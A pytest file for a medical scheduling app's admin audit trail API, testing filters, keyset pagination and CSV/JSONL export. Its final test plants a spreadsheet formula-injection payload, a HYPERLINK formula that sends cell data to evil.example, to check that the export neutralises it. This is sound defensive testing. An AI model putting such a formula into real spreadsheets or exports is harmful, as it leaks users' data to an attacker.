"""The audit trail API: filters, keyset pages and the streamed export, on SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
from datetime import timedelta

import pytest

from doctordesk.services.audit.entries import audit
from doctordesk.services.audit.trail import EXPORT_BATCH
from tests.support.errors import assert_error

ACTIONS = ("appointment.approve", "appointment.decline", "admin.user-updated")


@pytest.fixture
async def trail(runtime, demo, clock):
    """More rows than one export batch: three actions, two actors, three appointments, one a minute."""
    doctor, admin = demo.users["doctor1"], demo.users["admin"]
    start = clock.now() - timedelta(days=10)
    async with runtime.db.transaction() as session:
        for i in range(EXPORT_BATCH + 130):
            audit(
                session,
                at=start + timedelta(minutes=i),
                actor_id=doctor if i % 2 else admin,
                action=ACTIONS[i % 3],
                entity="appointment",
                entity_id=demo.appointments[i % 3],
                details={"i": i, "note": 'comma, "quote"\nnewline'},
            )
    return start


async def all_pages(client, headers, query, limit=37):
    rows, cursor, pages = [], None, 0
    while True:
        params = {**query, "limit": limit, **({"cursor": cursor} if cursor else {})}
        body = (await client.get("/admin/audit", params=params, headers=headers)).json()
        rows += body["rows"]
        pages += 1
        cursor = body["cursor"]
        if cursor is None:
            return rows, pages


async def test_the_list_filters_by_actor_appointment_action_and_time_range_in_keyset_pages(client, login, demo, trail):
    admin = await login("admin")
    query = {
        "actor": demo.users["doctor1"],
        "appointment": demo.appointments[1],
        "action": "appointment.decline",
        "from": (trail + timedelta(minutes=100)).isoformat(),
        "to": (trail + timedelta(minutes=400)).isoformat(),
    }
    rows, pages = await all_pages(client, admin.headers, query, limit=7)
    expected = [i for i in range(100, 400) if i % 2 and i % 3 == 1]
    assert sorted(r["details"]["i"] for r in rows) == expected
    assert len({r["id"] for r in rows}) == len(rows) and pages > 1
    assert [r["at"] for r in rows] == sorted((r["at"] for r in rows), reverse=True)  # newest first


async def test_new_rows_arriving_while_paging_never_repeat_a_row(client, login, runtime, demo, trail, clock):
    admin = await login("admin")
    first = (await client.get("/admin/audit", params={"limit": 10}, headers=admin.headers)).json()
    async with runtime.db.transaction() as session:
        audit(session, at=clock.now(), actor_id=None, action="x", entity="user", entity_id=None)
    rest = (
        await client.get("/admin/audit", params={"limit": 10, "cursor": first["cursor"]}, headers=admin.headers)
    ).json()
    assert not {r["id"] for r in first["rows"]} & {r["id"] for r in rest["rows"]}


async def test_the_export_streams_every_matching_row_as_json_lines(client, login, demo, trail):
    admin = await login("admin")
    params = {"format": "jsonl", "actor": demo.users["admin"]}
    response = await client.get("/admin/audit/export", params=params, headers=admin.headers)
    assert response.status_code == 200 and response.headers["content-type"].startswith("application/jsonl")
    lines = [json.loads(line) for line in response.text.splitlines()]
    trail_rows = [r for r in lines if r["action"] in ACTIONS]
    assert sorted(r["details"]["i"] for r in trail_rows) == [i for i in range(EXPORT_BATCH + 130) if i % 2 == 0]
    assert all(r["actor_id"] == demo.users["admin"] for r in lines)


async def test_the_export_streams_every_matching_row_as_csv(client, login, demo, trail):
    admin = await login("admin")
    params = {"format": "csv", "action": "appointment.approve"}
    response = await client.get("/admin/audit/export", params=params, headers=admin.headers)
    assert response.status_code == 200 and response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.DictReader(io.StringIO(response.text)))
    assert sorted(json.loads(r["details"])["i"] for r in rows) == list(range(0, EXPORT_BATCH + 130, 3))
    assert {r["action"] for r in rows} == {"appointment.approve"}
    assert json.loads(rows[0]["details"])["note"] == 'comma, "quote"\nnewline'


async def test_an_export_with_nothing_matching_is_just_the_header(client, login, trail):
    admin = await login("admin")
    response = await client.get(
        "/admin/audit/export", params={"format": "csv", "action": "none"}, headers=admin.headers
    )
    assert response.text.strip() == "id,at,actor_id,action,entity,entity_id,details"


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "2026-11-01T10:00:00"}, "from"),
        ({"from": "2026-11-02T00:00:00Z", "to": "2026-11-01T00:00:00Z"}, "to"),
        ({"cursor": "not-a-cursor"}, "cursor"),
        ({"actor": "0"}, "actor"),
        ({"format": "xml"}, "format"),
        ({"limit": "0"}, "limit"),
    ],
)
async def test_bad_audit_filters_are_refused_naming_the_field(client, login, params, field):
    admin = await login("admin")
    path = "/admin/audit/export" if "format" in params else "/admin/audit"
    body = assert_error(await client.get(path, params=params, headers=admin.headers), 422, "FIELDS_VALIDATION_ERROR")
    assert field in body["fields"]


async def test_administrative_changes_appear_in_the_trail_with_before_and_after(client, login, demo):
    admin = await login("admin")
    await client.post(f"/admin/users/{demo.users['support2']}", json={"display_name": "Sam"}, headers=admin.headers)
    params = {"entity": "user", "action": "admin.user-updated"}
    [row] = (await client.get("/admin/audit", params=params, headers=admin.headers)).json()["rows"]
    assert row["entity_id"] == demo.users["support2"] and row["actor_id"] == demo.users["admin"]
    assert row["details"]["after"]["display_name"] == "Sam" and row["details"]["before"]["display_name"] != "Sam"


async def test_the_csv_export_has_no_cell_a_spreadsheet_would_run_and_reads_back_exactly(client, login, runtime):
    from doctordesk.domain.transfer.csv_cells import FORMULA_STARTS, restore

    admin = await login("admin")
    name = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
    created = await client.post("/admin/locations", json={"name": name, "timezone": "UTC"}, headers=admin.headers)
    assert created.status_code == 201, created.text
    now = runtime.clock.now()
    async with runtime.db.transaction() as session:  # every text cell is held to the rule, not only the names
        audit(session, at=now, actor_id=None, action="-2+3+cmd", entity="@x", entity_id=None, details={})
    response = await client.get("/admin/audit/export", params={"format": "csv"}, headers=admin.headers)
    rows = list(csv.reader(io.StringIO(response.text, newline="")))
    assert all(not cell or cell[0] not in FORMULA_STARTS for row in rows for cell in row)
    read = [[restore(cell) for cell in row] for row in rows]
    assert ["-2+3+cmd", "@x"] in [row[3:5] for row in read]
    assert any(json.loads(row[6]).get("after", {}).get("name") == name for row in read[1:] if row[6] != "{}")
